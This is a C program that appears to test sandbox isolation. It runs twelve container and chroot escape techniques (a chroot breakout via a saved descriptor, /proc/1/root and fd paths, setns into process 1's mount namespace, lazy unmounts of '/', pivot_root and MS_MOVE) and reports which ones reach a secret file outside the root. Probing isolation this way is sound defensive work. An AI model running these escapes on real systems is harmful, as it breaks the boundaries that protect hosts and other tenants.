/* escape SECRET - try every way known out of a container, and name those that show the file /SECRET of another root
 * SPDX-License-Identifier: MIT */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *secret;

static bool is_at(const char *directory)
{
	char path[256];

	snprintf(path, sizeof path, "%s/%s", directory, secret);
	return access(path, F_OK) == 0;
}

/* From where the process stands, upwards. */
static bool is_above(void)
{
	for (int i = 0; i < 64; i++) {
		if (is_at("."))
			return true;
		if (chdir("..") < 0)
			return false;
	}
	return chroot(".") == 0 && is_at("/");
}

static bool climbs(void)
{
	return is_at("/../../../../../..") || is_above();
}

static bool leaves_a_chroot_by_a_descriptor(void)
{
	int root = open("/", O_RDONLY | O_DIRECTORY);

	mkdir("/tmp/cell", 0755);
	return chroot("/tmp/cell") == 0 && fchdir(root) == 0 && is_above();
}

static bool leaves_a_chroot_by_its_directory(void)
{
	mkdir("/tmp/cell", 0755);
	return chdir("/") == 0 && chroot("/tmp/cell") == 0 && is_above();
}

static bool goes_by_proc(void)
{
	static const char *const ways[] = {
		"/proc/1/root", "/proc/1/root/..", "/proc/1/cwd", "/proc/1/cwd/../../..", "/proc/self/root/../..",
		"/proc/self/task/../../1/root/..", "/proc/thread-self/root/..",
	};
	char path[64];

	for (size_t i = 0; i < sizeof ways / sizeof *ways; i++)
		if (is_at(ways[i]))
			return true;
	for (int process = 1; process < 20; process++)
		for (int fd = 0; fd < 64; fd++) {
			snprintf(path, sizeof path, "/proc/%d/fd/%d", process, fd);
			if (is_at(path))
				return true;
			strcat(path, "/../../..");
			if (is_at(path))
				return true;
		}
	return false;
}

/* Whoever enters a mount namespace stands on what lies uppermost over its first root. */
static bool enters(const char *namespace)
{
	int fd = open(namespace, O_RDONLY);

	return fd >= 0 && setns(fd, CLONE_NEWNS) == 0 && (is_at("/") || is_above());
}

static bool enters_its_own_namespace(void)
{
	return enters("/proc/self/ns/mnt");
}

static bool enters_that_of_process_1(void)
{
	return enters("/proc/1/ns/mnt");
}

static bool uncovers(void)
{
	int own = open("/proc/self/ns/mnt", O_RDONLY);

	umount2("/", MNT_DETACH);
	umount2("/", MNT_DETACH);
	return is_at("/") || is_above() || (setns(own, CLONE_NEWNS) == 0 && (is_at("/") || is_above()));
}

static bool uncovers_a_copy(void)
{
	return unshare(CLONE_NEWNS) == 0 && uncovers();
}

static bool uncovers_as_another_user(void)
{
	return unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0 && uncovers();
}

static bool uncovers_after_a_pivot(void)
{
	mkdir("/tmp/new", 0755);
	if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0
	    || mount("tmpfs", "/tmp/new", "tmpfs", 0, NULL) < 0 || mkdir("/tmp/new/old", 0755) < 0
	    || mkdir("/tmp/new/proc", 0755) < 0 || mount("/proc", "/tmp/new/proc", NULL, MS_BIND | MS_REC, NULL) < 0
	    || syscall(SYS_pivot_root, "/tmp/new", "/tmp/new/old") < 0 || chdir("/") < 0)
		return false;
	if (is_at("/old/..") || is_at("/old"))
		return true;
	umount2("/old", MNT_DETACH);
	return uncovers();
}

static bool moves_its_root_away(void)
{
	int own = open("/proc/self/ns/mnt", O_RDONLY);

	mkdir("/tmp/away", 0755);
	mount("tmpfs", "/tmp/away", "tmpfs", 0, NULL);
	mount("/", "/tmp/away", NULL, MS_MOVE, NULL);
	return setns(own, CLONE_NEWNS) == 0 && (is_at("/") || is_above());
}

static bool mounts_the_first_root(void)
{
	static const char *const types[] = { "rootfs", "ramfs", "tmpfs" };

	mkdir("/tmp/first", 0755);
	for (int i = 0; i < 3; i++) {
		if (mount("none", "/tmp/first", types[i], 0, NULL) == 0 && is_at("/tmp/first"))
			return true;
		umount2("/tmp/first", MNT_DETACH);
	}
	return false;
}

static const struct { const char *name; bool (*try)(void); } ways[] = {
	{ "climbs", climbs },
	{ "leaves a chroot by a descriptor", leaves_a_chroot_by_a_descriptor },
	{ "leaves a chroot by its directory", leaves_a_chroot_by_its_directory },
	{ "goes by /proc", goes_by_proc },
	{ "enters its own namespace", enters_its_own_namespace },
	{ "enters that of process 1", enters_that_of_process_1 },
	{ "uncovers", uncovers },
	{ "uncovers a copy", uncovers_a_copy },
	{ "uncovers as another user", uncovers_as_another_user },
	{ "uncovers after a pivot", uncovers_after_a_pivot },
	{ "moves its root away", moves_its_root_away },
	{ "mounts the first root", mounts_the_first_root },
};

int main(int argc, char **argv)
{
	int status, count = sizeof ways / sizeof *ways;

	secret = argc == 2 ? argv[1] : "secret";
	for (int i = 0; i < count; i++) {
		pid_t child = fork();

		if (child == 0)
			_exit(ways[i].try());
		waitpid(child, &status, 0);
		if (WIFSIGNALED(status) || WEXITSTATUS(status))
			puts(ways[i].name);
	}
	printf("tried %d ways\n", count);
	return EXIT_SUCCESS;
}
